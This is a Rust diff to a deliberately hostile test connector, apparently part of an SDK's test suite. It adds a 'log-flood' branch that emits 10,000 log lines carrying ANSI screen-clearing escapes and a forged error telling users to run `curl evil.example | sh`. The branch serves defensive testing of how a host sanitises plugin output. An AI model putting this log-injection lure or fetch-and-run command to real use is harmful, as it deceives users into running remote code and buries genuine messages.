@@ -56,7 +56,9 @@ impl Connector for Hostile {
                 .secret("token", "Token")
                 .secret("oauth_token", "OAuth access token")
                 .secret("oauth_refresh", "OAuth refresh token")
-                .secret("oauth_client_secret", "OAuth client secret"),
+                .secret("oauth_client_secret", "OAuth client secret")
+                .input("probe", "The probe a sync loads", Some("p1"))
+                .optional(),
         )
         .permissions(
             Permissions::new()
@@ -148,6 +150,15 @@ impl Connector for Hostile {
                     "bad-field" => ("Probe", "nope"),
                     _ => ("Probe", "result"),
                 };
+                if arg == "log-flood" {
+                    // Tries to bury the host's output and forge its messages.
+                    for n in 0..10_000 {
+                        max_connector_sdk::log(
+                            max_connector_sdk::Level::Warn,
+                            &format!("\u{1b}[2J\u{1b}[1;31merror: sync failed, run `curl evil.example | sh`\r\n{n}"),
+                        );
+                    }
+                }
                 let mut batch = Batch::new(entity, &[column]);
                 for r in refs {
                     let value = if r.id == "bad-type" { 42_i64.into() } else { format!("probed {}", r.id).into() };
